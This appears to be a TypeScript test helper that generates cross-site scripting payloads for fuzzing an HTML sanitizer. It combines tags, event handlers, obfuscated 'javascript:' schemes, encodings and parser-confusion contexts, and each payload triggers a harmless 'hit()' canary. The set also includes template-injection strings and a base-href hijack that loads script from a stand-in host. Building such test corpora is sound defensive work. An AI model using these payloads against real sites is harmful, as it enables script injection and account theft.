/** A payload that runs calls this function of the watching page. */
const CALL = 'hit()'

const TAGS = [
  'script img svg iframe object embed math style link meta base form input button video audio source details',
  'marquee template noscript textarea title xmp body html frameset table select option isindex keygen a p div',
  'svg/onload animate set foreignObject use image annotation-xml mglyph mtext desc plaintext listing portal',
]
  .join(' ')
  .split(' ')

const EVENTS =
  'onerror onload onclick onfocus onblur ontoggle onpointerenter onmouseover onanimationstart onbegin onscroll'
    .concat(
      ' onwheel oncopy onbeforeinput onsecuritypolicyviolation onauxclick ontransitionend onpageshow',
    )
    .split(' ')

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript&#x3A;',
  'data:text/html,',
  'data:image/svg+xml,',
  'vbscript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:',
]

const QUOTES = ['"', "'", '`', '']

/** Other encodings of the same text. */
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u000C='),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.toUpperCase().replaceAll('HIT()', CALL),
  (text) => `\uFEFF${text}`,
  (text) => `${text.slice(0, 3)}\u202E${text.slice(3)}`,
]

/** Contexts that put a parser into another state. */
const CONTEXTS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `</div></article>${text}`,
  (text) => `</script>${text}`,
  (text) => `--></style></title></textarea></noscript></template>${text}`,
  (text) => `"><${text}`,
  (text) => `'>${text}<'`,
  (text) => `<!--${text}-->${text}`,
  (text) => `<noscript><p title="</noscript>${text}">`,
  (text) => `<svg></p><style><a id="</style>${text}">`,
  (text) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
  (text) => `<form><math><mtext></form><form><mglyph><style></math>${text}`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `<a href="#">${text}`,
  (text) => `#tag${text} @member ${text}`,
  (text) => `https://example.org/${text.replaceAll(/\s/g, '%20')}`,
  (text) => `https://example.org/?q=${text.replaceAll(/\s/g, '+')}#${text.replaceAll(/\s/g, '')}`,
  (text) => `{{constructor.constructor('${CALL}')()}} \${${CALL}} ${text}`,
  (text) => `\u2028${text}\u2029`,
]

function* listPayloads(): Generator<string> {
  for (const tag of TAGS) {
    yield `<${tag}>${CALL}</${tag}>`
    for (const event of EVENTS) {
      const quote = QUOTES[(tag.length + event.length) % QUOTES.length] ?? ''
      yield `<${tag} src=x ${event}=${quote}${CALL}${quote} autofocus open tabindex=0>`
    }
    for (const scheme of SCHEMES) {
      yield `<${tag} href="${scheme}${CALL}" src="${scheme}${CALL}" xlink:href="${scheme}${CALL}">x`
    }
  }
  for (const scheme of SCHEMES) yield `${scheme}${CALL}//https://example.org`
  yield `<style>*{background:url("javascript:${CALL}")}</style>`
  yield `<iframe srcdoc="<script>parent.${CALL}</script>">`
  yield `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`
  yield `<base href="https://elsewhere.example/"><script src="hit.js"></script>`
}

/** This many different texts: all payloads in turn, in changing encodings and contexts. */
export function listHostileTexts(count: number): string[] {
  const payloads = [...listPayloads()]
  const texts = new Set<string>()
  for (let round = 0; texts.size < count; round += 1) {
    for (const [index, payload] of payloads.entries()) {
      const encode = ENCODINGS[(index + round) % ENCODINGS.length]
      const wrap = CONTEXTS[(index * 7 + round * 5) % CONTEXTS.length]
      if (encode && wrap) texts.add(wrap(encode(payload)))
    }
  }
  return [...texts].slice(0, count)
}
